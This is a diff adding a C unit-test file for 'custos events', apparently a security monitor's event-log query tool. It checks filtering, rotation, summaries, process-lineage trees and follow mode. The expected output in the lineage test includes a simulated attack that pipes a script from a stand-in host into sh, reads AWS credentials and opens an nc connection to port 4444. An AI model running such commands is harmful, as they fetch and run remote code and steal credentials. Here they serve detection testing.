@@ -1,0 +1,329 @@
+/*
+ * test_cmd_events.c - `custos events` against tests/fixtures/events/: each
+ * filter with known answers, a .gz rotation written here with zlib,
+ * malformed lines, --summary, --tree on a known lineage, --follow.
+ *
+ * current.jsonl: seq 101..110 (110 lines in all, line 6 and 13 malformed,
+ * line 12 empty).  The incident: vllm (pid 1000) -> sh 2001 -> curl 2002,
+ * cat 2003, nc 2004.  rotated.jsonl: seq 41..42, the day before.
+ */
+#include <stdarg.h>
+#include <stddef.h>
+#include <setjmp.h>
+#include <stdint.h>
+#include <cmocka.h>
+
+#include <poll.h>
+#include <time.h>
+#include <zlib.h>
+
+#include "run_cmd.h"
+
+#define CURRENT "tests/fixtures/events/current.jsonl"
+#define ROTATED "tests/fixtures/events/rotated.jsonl"
+
+static char dir[] = "/tmp/custos-evXXXXXX";
+static char live[256], gz1[256], follow_path[256];
+static struct run_out o;
+
+static int count_lines(const char *s)
+{
+	int n = 0;
+
+	for (; *s; s++)
+		n += *s == '\n';
+	return n;
+}
+
+static int has_seq(const char *out, int seq)
+{
+	char key[32];
+
+	snprintf(key, sizeof(key), "\"seq\":%d,", seq);
+	return strstr(out, key) != NULL;
+}
+
+/* runs `custos events --json ARGS... CURRENT` and returns the line count */
+static int query(const char *a1, const char *a2, const char *a3, const char *a4)
+{
+	char *argv[] = { "custos", "events", "--json", (char *)a1, (char *)a2,
+			 (char *)a3, (char *)a4, NULL, NULL };
+	int i = 3;
+
+	while (argv[i])
+		i++;
+	argv[i] = CURRENT;
+	assert_int_equal(run_custos(&o, argv), 0);
+	assert_int_equal(o.status, 0);
+	return count_lines(o.out);
+}
+
+static int setup(void **state)
+{
+	FILE *in;
+	gzFile gz;
+	char buf[4096];
+	size_t n;
+
+	if (!mkdtemp(dir))
+		return -1;
+	snprintf(live, sizeof(live), "%s/events.jsonl", dir);
+	snprintf(gz1, sizeof(gz1), "%s/events.jsonl.1.gz", dir);
+	snprintf(follow_path, sizeof(follow_path), "%s/follow.jsonl", dir);
+	/* the current file as is, the older one compressed as logrotate would */
+	in = fopen(CURRENT, "r");
+	FILE *out = fopen(live, "w");
+
+	if (!in || !out)
+		return -1;
+	while ((n = fread(buf, 1, sizeof(buf), in)) > 0)
+		fwrite(buf, 1, n, out);
+	fclose(in);
+	fclose(out);
+	in = fopen(ROTATED, "r");
+	gz = gzopen(gz1, "wb");
+	if (!in || !gz)
+		return -1;
+	while ((n = fread(buf, 1, sizeof(buf), in)) > 0)
+		gzwrite(gz, buf, (unsigned)n);
+	fclose(in);
+	gzclose(gz);
+	return 0;
+}
+
+static int teardown(void **state)
+{
+	unlink(live);
+	unlink(gz1);
+	unlink(follow_path);
+	rmdir(dir);
+	return 0;
+}
+
+static void test_all_and_malformed(void **state)
+{
+	assert_int_equal(query(NULL, NULL, NULL, NULL), 10);
+	assert_non_null(strstr(o.err, CURRENT ":6: malformed record, skipped\n"));
+	assert_non_null(strstr(o.err, CURRENT ":13: malformed record, skipped\n"));
+	assert_null(strstr(o.err, ":12:"));	/* an empty line is not a record */
+}
+
+static void test_json_passes_lines_unchanged(void **state)
+{
+	FILE *f = fopen(CURRENT, "r");
+	char line[8192];
+	int found = 0;
+
+	query("--pid", "3100", "--kind", "file");
+	assert_non_null(f);
+	while (fgets(line, sizeof(line), f))
+		if (strstr(line, "\\udcff"))
+			found = strcmp(o.out, line) == 0;
+	fclose(f);
+	assert_true(found);
+}
+
+static void test_filter_rule_kind_severity(void **state)
+{
+	assert_int_equal(query("--rule", "egress-bypass", NULL, NULL), 2);
+	assert_true(has_seq(o.out, 105) && has_seq(o.out, 107));
+	assert_int_equal(query("--rule", "inference-*", NULL, NULL), 3);
+	assert_int_equal(query("--kind", "connect", NULL, NULL), 3);
+	assert_int_equal(query("--kind", "loss", NULL, NULL), 1);
+	assert_true(has_seq(o.out, 108));
+	assert_int_equal(query("--severity", "critical", NULL, NULL), 2);
+	assert_int_equal(query("--severity", "high", NULL, NULL), 7);
+	assert_int_equal(query("--severity", "low", "--kind", "connect"), 3);
+}
+
+static void test_filter_time(void **state)
+{
+	assert_int_equal(query("--since", "2026-11-23T07:00:01Z", "--until",
+			       "2026-11-23T07:05:00Z"), 4);
+	assert_true(has_seq(o.out, 104) && has_seq(o.out, 107));
+	assert_int_equal(query("--since", "2026-11-23T08:00:00+01:00", "--until",
+			       "2026-11-23T07:00:00.5Z"), 2);
+	assert_int_equal(query("--since", "100000d", NULL, NULL), 10);
+	assert_int_equal(query("--since", "1s", NULL, NULL), 0);
+}
+
+static void test_filter_pid_exe_path_dest(void **state)
+{
+	assert_int_equal(query("--pid", "2002", NULL, NULL), 2);
+	assert_int_equal(query("--exe", "/usr/bin/python3*", NULL, NULL), 2);
+	assert_int_equal(query("--exe", "**/dash", NULL, NULL), 2);
+	assert_int_equal(query("--path", "**/.aws/*", NULL, NULL), 2);
+	assert_int_equal(query("--path", "/etc/**", NULL, NULL), 1);
+	assert_true(has_seq(o.out, 101));
+	assert_int_equal(query("--dest", "203.0.113.0/24", NULL, NULL), 1);
+	assert_true(has_seq(o.out, 105));
+	assert_int_equal(query("--dest", "0.0.0.0/0:4444", NULL, NULL), 1);
+	assert_int_equal(query("--dest", "10.0.0.0/8", NULL, NULL), 1);
+	assert_int_equal(query("--dest", "::/0", NULL, NULL), 0);
+}
+
+static void test_bad_option_is_usage_error(void **state)
+{
+	char *argv[] = { "custos", "events", "--since", "yesterday", CURRENT, NULL };
+
+	assert_int_equal(run_custos(&o, argv), 0);
+	assert_int_equal(o.status, 2);
+	assert_non_null(strstr(o.err, "--since yesterday"));
+}
+
+static void test_gz_rotation_read_first(void **state)
+{
+	char *argv[] = { "custos", "events", "--json", live, NULL };
+	char *pos41, *pos101;
+
+	assert_int_equal(run_custos(&o, argv), 0);
+	assert_int_equal(o.status, 0);
+	assert_int_equal(count_lines(o.out), 12);
+	pos41 = strstr(o.out, "\"seq\":41,");
+	pos101 = strstr(o.out, "\"seq\":101,");
+	assert_non_null(pos41);
+	assert_non_null(pos101);
+	assert_true(pos41 < pos101);	/* oldest first */
+	assert_true(has_seq(o.out, 42));
+	/* naming the .gz on its own reads just it */
+	argv[3] = gz1;
+	assert_int_equal(run_custos(&o, argv), 0);
+	assert_int_equal(count_lines(o.out), 2);
+	assert_true(strstr(o.out, "2001:db8::7") != NULL);
+}
+
+static void test_summary(void **state)
+{
+	char *argv[] = { "custos", "events", "--summary", live, NULL };
+
+	assert_int_equal(run_custos(&o, argv), 0);
+	assert_int_equal(o.status, 0);
+	assert_non_null(strstr(o.out, "12 records from 2 file(s), 2026-11-22T23:30:00Z .. "
+			       "2026-11-23T07:10:05Z (2 malformed lines skipped)\n"));
+	assert_non_null(strstr(o.out, "by rule:\n         3  egress-bypass\n"));
+	assert_non_null(strstr(o.out, "by severity:\n         7  high\n         2  critical\n"));
+	assert_non_null(strstr(o.out, "         1  /usr/bin/nc.openbsd\n"));
+}
+
+static void test_tree(void **state)
+{
+	char *argv[] = { "custos", "events", "--tree", "1000", "--color", "never", CURRENT, NULL };
+
+	assert_int_equal(run_custos(&o, argv), 0);
+	assert_int_equal(o.status, 0);
+	assert_string_equal(o.out,
+		"lineage of 1000: /usr/lib/systemd/systemd > /opt/vllm/venv/bin/python3 [1000]\n"
+		"TIME (UTC)           SEVERITY  RULE                                        PID  EXE                             WHAT\n"
+		"2026-11-23 07:00:00  high      inference-server-spawns-shell              2001    /usr/bin/dash                 exec sh -c curl -s http://203.0.113.7/x.sh | sh\n"
+		"2026-11-23 07:00:00  high      inference-cgroup-spawns-shell              2001    /usr/bin/dash                 exec sh -c curl -s http://203.0.113.7/x.sh | sh\n"
+		"2026-11-23 07:00:01  high      inference-cgroup-spawns-network-tool       2002      /usr/bin/curl               exec curl -s http://203.0.113.7/x.sh\n"
+		"2026-11-23 07:00:01  high      egress-bypass                              2002      /usr/bin/curl               tcp 203.0.113.7:80\n"
+		"2026-11-23 07:00:02  critical  secret-file-access                         2003      /usr/bin/cat                read /root/.aws/credentials\n"
+		"2026-11-23 07:00:03  high      egress-bypass                              2004      /usr/bin/nc.openbsd         tcp 198.51.100.4:4444 (blocked)\n");
+}
+
+static void test_table_escapes_bytes(void **state)
+{
+	char *argv[] = { "custos", "events", "--pid", "3100", "--kind", "file", CURRENT, NULL };
+
+	assert_int_equal(run_custos(&o, argv), 0);
+	assert_non_null(strstr(o.out, "read /home/svc/.aws/credentials\\xff\n"));
+}
+
+/* Waits up to 5 s for want in the child's output (appended to buf). */
+static int wait_for(int fd, char *buf, size_t size, size_t *got, const char *want)
+{
+	struct timespec t0, t;
+
+	clock_gettime(CLOCK_MONOTONIC, &t0);
+	for (;;) {
+		struct pollfd pfd = { .fd = fd, .events = POLLIN };
+		ssize_t r;
+
+		if (strstr(buf, want))
+			return 1;
+		clock_gettime(CLOCK_MONOTONIC, &t);
+		if (t.tv_sec - t0.tv_sec > 5)
+			return 0;
+		if (poll(&pfd, 1, 200) <= 0)
+			continue;
+		r = read(fd, buf + *got, size - 1 - *got);
+		if (r <= 0)
+			return 0;
+		*got += (size_t)r;
+		buf[*got] = '\0';
+	}
+}
+
+static void append(const char *path, const char *text)
+{
+	FILE *f = fopen(path, "a");
+
+	assert_non_null(f);
+	fputs(text, f);
+	fclose(f);
+}
+
+#define LOSS_LINE(seq) \
+	"{\"schema\":\"custos.event/1\",\"time\":\"2026-11-23T08:00:00Z\",\"seq\":" #seq "," \
+	"\"kind\":\"loss\",\"loss\":{\"lost\":1,\"where\":\"ring\"}}\n"
+
+static void test_follow_picks_up_appended_lines(void **state)
+{
+	char *argv[] = { "custos", "events", "--follow", "--json", follow_path, NULL };
+	char buf[4096] = "", rotated[300];
+	size_t got = 0;
+	int p[2], st;
+	pid_t pid;
+
+	write_file(follow_path, "");
+	assert_int_equal(pipe(p), 0);
+	pid = fork();
+	if (pid == 0) {
+		dup2(p[1], 1);
+		close(p[0]);
+		alarm(20);
+		execv(CUSTOS_BIN, argv);
+		_exit(127);
+	}
+	close(p[1]);
+	usleep(300 * 1000);	/* the child is at the end of the empty file */
+	append(follow_path, LOSS_LINE(998));
+	assert_true(wait_for(p[0], buf, sizeof(buf), &got, "\"seq\":998"));
+	/* a line written in two parts is passed on once, whole */
+	append(follow_path, "{\"schema\":\"custos.event/1\",");
+	usleep(450 * 1000);
+	append(follow_path, "\"kind\":\"loss\",\"seq\":999}\n");
+	assert_true(wait_for(p[0], buf, sizeof(buf), &got, "\"seq\":999"));
+	/* logrotate: the file is renamed and a new one created */
+	snprintf(rotated, sizeof(rotated), "%s.1", follow_path);
+	assert_int_equal(rename(follow_path, rotated), 0);
+	write_file(follow_path, LOSS_LINE(1000));
+	assert_true(wait_for(p[0], buf, sizeof(buf), &got, "\"seq\":1000"));
+	kill(pid, SIGTERM);
+	waitpid(pid, &st, 0);
+	close(p[0]);
+	unlink(rotated);
+	assert_string_equal(buf, LOSS_LINE(998)
+			    "{\"schema\":\"custos.event/1\",\"kind\":\"loss\",\"seq\":999}\n"
+			    LOSS_LINE(1000));
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_all_and_malformed),
+		cmocka_unit_test(test_json_passes_lines_unchanged),
+		cmocka_unit_test(test_filter_rule_kind_severity),
+		cmocka_unit_test(test_filter_time),
+		cmocka_unit_test(test_filter_pid_exe_path_dest),
+		cmocka_unit_test(test_bad_option_is_usage_error),
+		cmocka_unit_test(test_gz_rotation_read_first),
+		cmocka_unit_test(test_summary),
+		cmocka_unit_test(test_tree),
+		cmocka_unit_test(test_table_escapes_bytes),
+		cmocka_unit_test(test_follow_picks_up_appended_lines),
+	};
+
+	return cmocka_run_group_tests(tests, setup, teardown);
+}
